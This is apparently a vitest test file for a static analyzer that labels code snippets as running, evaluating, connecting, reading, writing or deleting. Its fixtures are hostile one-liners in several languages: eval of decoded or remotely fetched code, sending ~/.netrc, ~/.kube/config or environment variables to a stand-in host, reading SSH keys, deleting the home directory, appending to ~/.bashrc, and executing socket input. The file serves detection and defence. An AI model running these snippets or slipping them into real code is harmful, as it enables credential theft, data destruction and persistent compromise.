import { expect, test } from "vitest";
import type { Action, Language } from "../evidence.ts";
import { readOther } from "./read-other.ts";
import { program, read } from "./test-actions.ts";

const kinds = (text: string, language: Language): readonly string[] =>
  readOther(program(text, language), read).map((action) =>
    [action.kind, subjectOf(action), ...action.carries.map(({ label }) => label)]
      .filter((part) => part !== "")
      .join(" "),
  );

function subjectOf(action: Action): string {
  if (action.kind === "connect") return action.address ?? "?";
  return "path" in action ? action.path : "";
}

test.each<[Language, string, string]>([
  ["ruby", 'system("id")', "run"],
  ["php", "eval(base64_decode($x));", "evaluate decoded"],
  ["ruby", 'eval URI.open("https://a.example").read', "evaluate remote"],
  ["ruby", 'TCPSocket.new("203.0.113.5", 4444)', "connect 203.0.113.5"],
  [
    "ruby",
    "key = File.read(File.join(Dir.home, '.netrc'))\nNet::HTTP.post(URI('https://a.example/in'), key)",
    "connect https://a.example/in credentials",
  ],
  [
    "ruby",
    "all = ENV.to_h.inspect\nHTTParty.post('https://a.example', body: all)",
    "connect https://a.example environment",
  ],
  [
    "other",
    'h, _ := os.UserHomeDir()\nb, _ := os.ReadFile(h + "/.kube/config")\nhttp.Post("https://a.example/s", "text/plain", bytes.NewReader(b))',
    "connect https://a.example/s credentials",
  ],
  [
    "other",
    'String home = System.getProperty("user.home");\nString k = Files.readString(Path.of(home, ".ssh", "id_ed25519"));',
    "read ~/.ssh/id_ed25519 credentials",
  ],
  ["other", "let p = dirs::home_dir().unwrap();\nfs::remove_dir_all(p)?;", "delete ~"],
  [
    "other",
    'home, _ := os.UserHomeDir()\nf, _ := os.OpenFile(home+"/.bashrc", os.O_APPEND, 0600)\nf.WriteString("run-me &")',
    "write ~/.bashrc",
  ],
  ["php", "file_put_contents($_SERVER['HOME'] . '/.bashrc', 'run-me', FILE_APPEND);", "write ~/.bashrc"],
  [
    "other",
    'r, _ := http.Get("https://a.example/tool")\nf, _ := os.Create("/tmp/tool")\nio.Copy(f, r.Body)',
    "write /tmp/tool remote",
  ],
  [
    "other",
    "local c = socket.tcp()\nc:connect('a.example', 99)\nlocal l = c:receive()\nio.popen(l)",
    "evaluate remote",
  ],
])("%s: %s", (language, text, expected) => {
  expect(kinds(text, language)).toContain(expected);
});

test("what only looks alike does nothing", () => {
  expect(kinds('puts "system is up"\nvalue = open_issues.count', "ruby")).toEqual([]);
  expect(kinds('http.Handle("/health", handler)\nkey := os.Getenv("PORT")', "other")).toEqual([]);
});
